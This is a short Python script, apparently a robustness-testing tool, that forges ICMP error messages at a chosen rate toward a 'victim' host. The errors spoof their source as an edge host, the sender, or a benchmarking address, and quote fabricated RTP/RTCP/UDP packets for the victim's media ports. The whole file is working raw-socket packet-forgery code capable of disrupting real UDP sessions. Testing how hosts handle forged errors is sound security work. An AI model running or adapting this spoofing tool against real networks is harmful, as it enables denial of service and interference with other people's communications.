#!/usr/bin/python3
"""Invents ICMP errors about packets that a host has never sent as they quote them.

Usage: forger.py RATE SECONDS VICTIM VICTIM-PORT EDGE EDGE-PORT…

It sends RATE errors a second for SECONDS to VICTIM, about UDP from its port to each of EDGE's ports,
which take turns with VICTIM-PORT, VICTIM-PORT + 1 and so on. Errors have every type and code, and seem to
come from EDGE, from this host, and from nobody. They quote a whole RTP or RTCP packet, the UDP header
alone, or something in between. At the end it prints how many it sent.
"""

import itertools
import os
import random
import socket
import struct
import sys
import time

_UDP, _ICMP = 17, 1


def _checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ip(source, target, protocol, payload):
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, protocol, 0)
    header += socket.inet_aton(source) + socket.inet_aton(target)
    return header[:10] + struct.pack("!H", _checksum(header)) + header[12:] + payload


def _quoted(length):
    """The beginning of a packet that looks like one of the stream."""
    kind = random.choice([(0x80, 96), (0x80, 200)])
    return (bytes(kind) + os.urandom(506))[:length]


def _error(kind, code, offender, victim, port, edge, edge_port, length):
    quoted = _quoted(length)
    udp = struct.pack("!HHHH", port, edge_port, 8 + max(length, 200), random.getrandbits(16)) + quoted
    # The next hop's MTU, where that is what the error says.
    body = struct.pack("!BBHHH", kind, code, 0, 0, 576) + _ip(victim, edge, _UDP, udp)
    body = body[:2] + struct.pack("!H", _checksum(body)) + body[4:]
    return _ip(offender, victim, _ICMP, body)


def main(rate, seconds, victim, port, edge, edge_ports, own):
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    kinds = [(3, code) for code in range(16)] + [(4, 0), (11, 0), (11, 1), (12, 0), (12, 1)]
    # Port unreachable is what a refusal is.
    kinds += [(3, 3)] * 20 + [(kind, 0) for kind in (0, 5, 8, 13, 40, 255)]
    kinds = itertools.cycle(kinds)
    flows = itertools.cycle(enumerate(edge_ports))
    began, sent = time.monotonic(), 0
    while (passed := time.monotonic() - began) < seconds:
        while sent < passed * rate:
            kind, code = next(kinds)
            place, edge_port = next(flows)
            offender = random.choice([edge, edge, own, "198.18.0.66"])
            length = random.choice([0, 4, 11, 12, 200, 508, 508, 508]) & ~1
            error = _error(kind, code, offender, victim, port + place, edge, edge_port, length)
            out.sendto(error, (victim, 0))
            sent += 1
        time.sleep(0.002)
    print("sent", sent, flush=True)


if __name__ == "__main__":
    _, rate, seconds, victim, port, edge, *ports = sys.argv
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect((victim, 9))
        own = udp.getsockname()[0]
    main(int(rate), int(seconds), victim, int(port), edge, [int(port) for port in ports], own)
